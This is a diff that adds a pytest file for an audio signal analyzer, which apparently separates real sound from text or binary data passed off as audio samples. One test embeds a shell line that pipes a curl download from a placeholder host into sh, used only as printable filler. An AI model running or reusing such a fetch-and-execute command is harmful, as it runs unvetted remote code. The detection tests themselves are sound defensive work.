@@ -1,0 +1,189 @@
+"""Signal features on small generated inputs: sound looks like sound, data like data."""
+
+from __future__ import annotations
+
+import numpy as np
+import numpy.typing as npt
+import pytest
+
+from audiomodel.signal import FEATURE_NAMES, SignalAnalyzer, SignalReport
+
+RATE = 22050
+
+
+def music_like(seconds: float = 3.0, seed: int = 0, channels: int = 2) -> npt.NDArray[np.int16]:
+    """Notes with harmonics, attack/decay envelopes, a noise floor, slightly different channels."""
+    rng = np.random.default_rng(seed)
+    n = int(seconds * RATE)
+    t = np.arange(n) / RATE
+    out = np.zeros(n)
+    for start in np.arange(0.0, seconds, 0.25):
+        f0 = 110.0 * 2 ** (rng.integers(0, 24) / 12)
+        idx = slice(int(start * RATE), n)
+        tt = t[idx] - start
+        env = np.exp(-tt * 4.0) * (1 - np.exp(-tt * 200.0))
+        for h in range(1, 6):
+            out[idx] += env * np.sin(2 * np.pi * f0 * h * tt) / h**1.5
+    out = 0.3 * out / np.abs(out).max() + rng.normal(0, 3e-4, n)
+    stereo = np.stack([out, np.roll(out, 3) * 0.9], axis=1)[:, :channels]
+    return np.clip(np.rint(stereo * 32767), -32768, 32767).astype(np.int16)
+
+
+def analyse(ints: npt.NDArray[np.int16], block: int = 65536) -> SignalReport:
+    analyzer = SignalAnalyzer(sample_rate=RATE, channels=ints.shape[1])
+    for start in range(0, ints.shape[0], block):
+        chunk = ints[start : start + block]
+        analyzer.update(chunk)
+    return analyzer.report()
+
+
+def text_as_samples(channels: int = 1) -> npt.NDArray[np.int16]:
+    """The original mock recipe: each character's code point as a sample."""
+    text = (b"def main():\n    for i in range(10):\n        print('hello', i)\n" * 2000)[
+        : 3 * RATE * channels
+    ]
+    codes = np.frombuffer(text, dtype=np.uint8).astype(np.int16) * 64
+    return codes.reshape(-1, channels)
+
+
+def bytes_as_int16(seed: int = 1) -> npt.NDArray[np.int16]:
+    return (
+        np.random.default_rng(seed)
+        .integers(0, 256, 3 * RATE * 2, dtype=np.uint8)
+        .view(np.int16)
+        .reshape(-1, 1)
+    )
+
+
+def test_every_declared_feature_is_reported_and_finite() -> None:
+    features = analyse(music_like()).features
+    assert set(features) == set(FEATURE_NAMES)
+    assert all(np.isfinite(v) for v in features.values())
+
+
+def test_music_is_smooth_varied_and_uses_many_sample_values() -> None:
+    f = analyse(music_like()).features
+    assert f["lag1_corr"] > 0.8
+    assert f["log_distinct"] > 3.0
+    assert f["envelope_db_std"] > 2.0
+    assert f["printable_byte_ratio"] < 0.6
+
+
+def test_text_as_samples_is_printable_and_has_few_values() -> None:
+    f = analyse(text_as_samples()).features
+    assert f["log_distinct"] < 2.1  # at most ~100 distinct code points
+    assert f["dc_ratio"] > 0.8  # all samples positive
+
+
+def test_random_bytes_as_samples_are_white() -> None:
+    f = analyse(bytes_as_int16()).features
+    assert abs(f["lag1_corr"]) < 0.05
+    assert f["flatness_mean"] > 0.8
+    assert f["envelope_db_std"] < 0.5
+
+
+def test_silence_is_reported_as_silence() -> None:
+    report = analyse(np.zeros((RATE, 2), dtype=np.int16))
+    assert [f.code for f in report.findings] == ["signal.silence"]
+
+
+@pytest.mark.parametrize(
+    "pattern",
+    [
+        np.full(RATE * 2, 1000, dtype=np.int16),  # constant
+        (np.arange(RATE * 2) % 2000 * 16 - 16000).astype(np.int16),  # sawtooth ramp from a counter
+        np.where(np.arange(RATE * 2) // 50 % 2 == 0, 12000, -12000).astype(np.int16),  # square
+    ],
+    ids=["constant", "ramp", "square"],
+)
+def test_synthetic_patterns_are_reported(pattern: npt.NDArray[np.int16]) -> None:
+    codes = [f.code for f in analyse(pattern.reshape(-1, 1)).findings]
+    assert "signal.synthetic" in codes
+
+
+def test_steady_pure_tone_is_reported_but_a_plucked_note_is_not() -> None:
+    t = np.arange(RATE * 3) / RATE
+    tone = (0.5 * np.sin(2 * np.pi * 440 * t) * 32767).astype(np.int16).reshape(-1, 1)
+    assert "signal.pure_tone" in [f.code for f in analyse(tone).findings]
+    assert "signal.pure_tone" not in [f.code for f in analyse(music_like(channels=1)).findings]
+
+
+def test_streaming_in_small_blocks_gives_the_same_features_as_one_block() -> None:
+    ints = music_like(seconds=4.0)
+    whole = analyse(ints, block=ints.shape[0]).features
+    small = analyse(ints, block=4096).features
+    for name in FEATURE_NAMES:
+        assert small[name] == pytest.approx(whole[name], rel=1e-5, abs=1e-9), name
+
+
+def test_mismatched_channel_count_is_a_clear_error() -> None:
+    analyzer = SignalAnalyzer(sample_rate=RATE, channels=2)
+    with pytest.raises(ValueError, match="expected"):
+        analyzer.update(np.zeros((10, 1), dtype=np.int16))
+
+
+def test_text_bytes_read_as_16_bit_samples_are_all_printable() -> None:
+    text = (b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n" * 4000)[: RATE * 4]
+    f = analyse(np.frombuffer(text, dtype="<i2").reshape(-1, 1)).features
+    assert f["printable_byte_ratio"] > 0.99
+
+
+def test_level_statistics_come_out_right_from_the_histogram() -> None:
+    ints = np.array([[-32768], [32767], [0], [0]], dtype=np.int16).repeat(RATE, axis=0)
+    f = analyse(ints).features
+    assert f["clip_ratio"] == pytest.approx(0.5)
+    assert f["dc_ratio"] < 0.01
+
+
+def test_long_tracks_keep_a_bounded_evenly_spread_set_of_spectra() -> None:
+    from audiomodel.signal import MAX_SPECTRA
+
+    analyzer = SignalAnalyzer(sample_rate=8000, channels=1)
+    block = music_like(seconds=10.0, channels=1)
+    for _ in range(60):  # ten minutes
+        analyzer.update(block)
+    assert MAX_SPECTRA // 2 <= len(analyzer._spectra) < MAX_SPECTRA
+    assert analyzer.report().features["flatness_mean"] > 0
+
+
+def test_a_slow_full_range_ramp_is_reported_as_synthetic() -> None:
+    import io
+
+    import soundfile as sf
+
+    from audiomodel.corpus.threats import synthetic_signal
+
+    ramp, _ = sf.read(
+        io.BytesIO(synthetic_signal("ramp", seconds=4.0, sample_rate=RATE)),
+        dtype="int16",
+        always_2d=True,
+    )
+    assert "signal.synthetic" in [f.code for f in analyse(ramp).findings]
+
+
+def test_a_decaying_tom_like_tone_is_not_a_pure_tone() -> None:
+    t = np.arange(RATE * 3) / RATE
+    tom = 0.8 * np.exp(-t * 1.5) * np.sin(2 * np.pi * 110 * t)
+    ints = (tom * 32767).astype(np.int16).reshape(-1, 1)
+    assert [f.code for f in analyse(ints).findings] == []
+
+
+def test_clips_shorter_than_one_spectrum_segment_still_get_spectral_features() -> None:
+    noise = np.random.default_rng(5).integers(-20000, 20000, (2000, 1)).astype(np.int16)
+    assert analyse(noise).features["flatness_mean"] > 0.5
+
+
+def test_bytes_of_a_file_fill_both_byte_lanes_alike_but_recorded_sound_does_not() -> None:
+    data = analyse(bytes_as_int16()).features["byte_lane_distance"]
+    text = analyse(
+        np.frombuffer(b"int main(void) { return 0; }\n" * 8000, dtype="<i2").reshape(-1, 1)
+    )
+    sound = analyse(music_like()).features["byte_lane_distance"]
+    assert data < 0.05 and text.features["byte_lane_distance"] < 0.2
+    assert sound > 0.4
+
+
+def test_a_heavily_clipped_recording_is_noted() -> None:
+    loud = np.clip(music_like().astype(np.int32) * 8, -32768, 32767).astype(np.int16)
+    codes = [f.code for f in analyse(loud).findings]
+    assert "signal.clipping" in codes
